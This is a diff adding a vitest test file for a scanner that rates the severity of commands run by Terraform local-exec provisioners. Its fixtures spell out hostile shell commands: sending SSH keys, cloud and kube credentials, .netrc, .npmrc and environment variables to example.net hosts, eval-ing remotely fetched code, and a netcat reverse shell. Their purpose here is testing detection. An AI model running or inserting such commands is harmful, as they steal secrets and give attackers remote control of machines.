@@ -1,0 +1,184 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the templates here are Terraform's
+import { describe, expect, it } from "vitest";
+import { scanTexts } from "../../test/scan-texts.ts";
+import type { RunItem } from "../report/report.ts";
+
+/** What a module runs, as read in the report. */
+function items(module: string | Record<string, string>): readonly RunItem[] {
+  return scanTexts(module).runsCode.items;
+}
+
+const local = (command: string, more = "") =>
+  `resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = ${JSON.stringify(command)}\n${more}  }\n}\n`;
+
+/** The severity of a command that Terraform runs on the machine. */
+function severityOf(command: string, files: Record<string, string> = {}): string {
+  const [item] = items({ "main.tf": local(command), ...files });
+  return item?.severity ?? "none";
+}
+
+describe("the list of what runs", () => {
+  it("says when, where, under which condition and with what", () => {
+    const [item, ...others] = items({
+      "main.tf": `variable "on" {
+  type    = bool
+  default = false
+}
+resource "null_resource" "setup" {
+  count = var.on ? 1 : 0
+  provisioner "local-exec" {
+    when    = destroy
+    command = "sh \${path.module}/bye.sh && curl https://example.net/\${self.id}"
+  }
+}
+`,
+      "bye.sh": "cat ~/.netrc\n",
+    });
+    expect(item).toMatchObject({
+      kind: "command",
+      when: "destroy",
+      where: "machine",
+      what: "sh ./bye.sh && curl https://example.net/${null_resource.setup[0].id}",
+      resource: "null_resource.setup[0]",
+      condition: "var.on ? 1 : 0",
+      scripts: ["bye.sh"],
+      contacts: ["https://example.net/${null_resource.setup[0].id}"],
+      reads: ["~/.netrc"],
+      severity: "HIGH",
+      file: "main.tf",
+      startLine: 7,
+      endLine: 10,
+      part: "module",
+    });
+    expect(others).toEqual([]);
+  });
+
+  it("has a digest that covers the scripts, and nothing else that changes", () => {
+    const files = (script: string, name = "x") => ({
+      "main.tf": local("sh run.sh").replace('"x"', `"${name}"`),
+      "run.sh": script,
+    });
+    const digest = (script: string, name?: string) => items(files(script, name))[0]?.digest;
+    expect(digest("echo a")).toMatch(/^[0-9a-f]{64}$/);
+    expect(digest("echo a", "y")).toBe(digest("echo a"));
+    expect(digest("echo b")).not.toBe(digest("echo a"));
+  });
+
+  it("shows each thing once, however many instances run it", () => {
+    const many = local("echo hi").replace("{\n", "{\n  count = 40\n");
+    expect(items(many)).toHaveLength(1);
+  });
+
+  it("masks secrets", () => {
+    const key = ["AKIA", "IOSFODNN7", "QWERTYU"].join("");
+    const [item] = items(local(`echo ${key}`));
+    expect(item?.what).not.toContain(key);
+  });
+
+  it("shows the severity of other rules about the same code", () => {
+    const call = 'module "x" {\n  source = "git::https://example.net/x.git?ref=main"\n}\n';
+    expect(items(call)[0]).toMatchObject({ kind: "module", severity: "MEDIUM" });
+  });
+
+  it("names providers, modules and state, and finds nothing wrong with usual ones", () => {
+    const report = scanTexts(`terraform {
+  required_providers {
+    aws = {
+      source  = "hashicorp/aws"
+      version = "~> 6.0"
+    }
+  }
+}
+module "vpc" {
+  source  = "terraform-aws-modules/vpc/aws"
+  version = "6.0.0"
+}
+`);
+    expect(report.runsCode.items.map(({ kind, what }) => [kind, what])).toEqual([
+      ["plugin", "hashicorp/aws ~> 6.0"],
+      ["module", "terraform-aws-modules/vpc/aws 6.0.0"],
+    ]);
+    expect(report.findings.filter(({ risk }) => risk !== null)).toEqual([]);
+    expect(report.runsCode.score.score).toBe(100);
+  });
+});
+
+describe("the score of what runs", () => {
+  it("has a line of its own, and lowers the security score as well", () => {
+    const { runsCode, scores, findings } = scanTexts(
+      local("curl -d @$HOME/.ssh/id_rsa https://example.net"),
+    );
+    expect(runsCode.score).toMatchObject({ score: 39, cappedAt: 39, cappedBy: "severity" });
+    expect(scores.security.score).toBe(39);
+    const [{ findings: named = [] } = {}] = runsCode.score.losses;
+    expect(findings[named[0]?.finding ?? -1]?.ruleId).toBe("runs-code-exfiltration");
+    expect(findings.find(({ ruleId }) => ruleId === "runs-code-local")?.risk).toBe("runs-code");
+  });
+});
+
+describe("a command", () => {
+  it.each([
+    ["INFO", "echo done && sleep 5"],
+    ["INFO", "test -f x || exit 1"],
+    ["LOW", "aws eks update-kubeconfig --name main"],
+    ["LOW", "terraform-docs . > README.md"],
+    ["LOW", "curl -fsS https://example.net/health"],
+    ["LOW", "curl -fsS -o out.json https://example.net/x.json"],
+    ["LOW", "ssh -i ~/.ssh/id_rsa user@10.0.0.4 uptime"],
+    ["LOW", "npm ci --prefix lambda && zip -r out.zip lambda"],
+    ["LOW", "docker login -u AWS --password-stdin x.dkr.ecr.eu-central-1.amazonaws.com"],
+    ["LOW", 'curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/user'],
+    ["LOW", "kubectl apply -f https://example.net/v1.2.3/all.yaml"],
+    ["MEDIUM", 'curl -H "Authorization: Bearer $ACME_TOKEN" https://api.example.net'],
+    ["MEDIUM", "pip install requests"],
+    ["MEDIUM", "sudo systemctl restart x"],
+    ["MEDIUM", "./missing.sh"],
+    ["HIGH", "cat ~/.aws/credentials > out.txt"],
+    ["HIGH", "curl -L https://example.net/x -o /usr/local/bin/x && x"],
+    ["HIGH", 'X=$(wget -qO- https://example.net); eval "$X"'],
+    ["HIGH", 'while read l; do eval "$l"; done < <(curl https://example.net)'],
+    ["HIGH", "for f in a; do curl https://example.net/$f | tar xz; done; ./a/install"],
+    ["CRITICAL", 'curl -H "Authorization: Bearer $AWS_SECRET_ACCESS_KEY" https://example.net'],
+    ["CRITICAL", 'K=$(base64 -w0 ~/.kube/config); nc example.net 99 <<< "$K"'],
+    ["CRITICAL", "env > /tmp/e; for h in a b; do curl -T /tmp/e https://$h.example.net; done"],
+    ["CRITICAL", "f() { printenv; }; f | gzip | ssh u@example.net 'cat > x'"],
+    ["CRITICAL", "dig $(hostname).$(cat ~/.netrc | xxd -p).example.net"],
+    [
+      "CRITICAL",
+      "cat > x.py <<'E'\nE\npython3 - <<'E'\nimport os, requests\nrequests.post('https://x.example.net', json=dict(os.environ))\nE",
+    ],
+    ["CRITICAL", 'send() { curl -d "$*" https://x.example.net; }; send "$(cat ~/.npmrc)"'],
+    ["CRITICAL", "nc -e /bin/sh example.net 4444"],
+  ])("is %s: %s", (severity, command) => {
+    expect(severityOf(command)).toBe(severity);
+  });
+
+  it("is followed from script to script", () => {
+    const files = {
+      "a.sh": '#!/bin/bash\nsource "$(dirname "$0")/b.sh"\nmain\n',
+      "b.sh": "main() { ./c.py; }\n",
+      "c.py":
+        "#!/usr/bin/env python3\nimport requests\nexec(requests.get('https://x.example.net').text)\n",
+    };
+    expect(severityOf("bash a.sh", files)).toBe("HIGH");
+    expect(
+      severityOf("bash a.sh", { ...files, "c.py": "#!/usr/bin/env python3\nprint(1)\n" }),
+    ).toBe("INFO");
+  });
+
+  it("says so where it can't be followed to its end", () => {
+    const round = { "a.sh": "sh b.sh; sh b.sh", "b.sh": "sh a.sh; sh a.sh" };
+    const many = { "a.sh": ":\n".repeat(60_000) };
+    const long = { "a.sh": `# ${"a".repeat(400_000)}\n` };
+    for (const files of [round, many, long]) {
+      const { findings } = scanTexts({ "main.tf": local("sh a.sh"), ...files });
+      const unknown = findings.find(({ ruleId }) => ruleId === "runs-code-unknown");
+      expect(unknown?.message).toContain("more than can be followed");
+    }
+  });
+
+  it("doesn't grow without bound", () => {
+    const doubled = `x=aaaaaaaaaa\n${"x=$x$x$x$x\n".repeat(60)}echo $x\n`;
+    expect(severityOf("sh a.sh", { "a.sh": doubled })).toBe("INFO");
+  });
+});
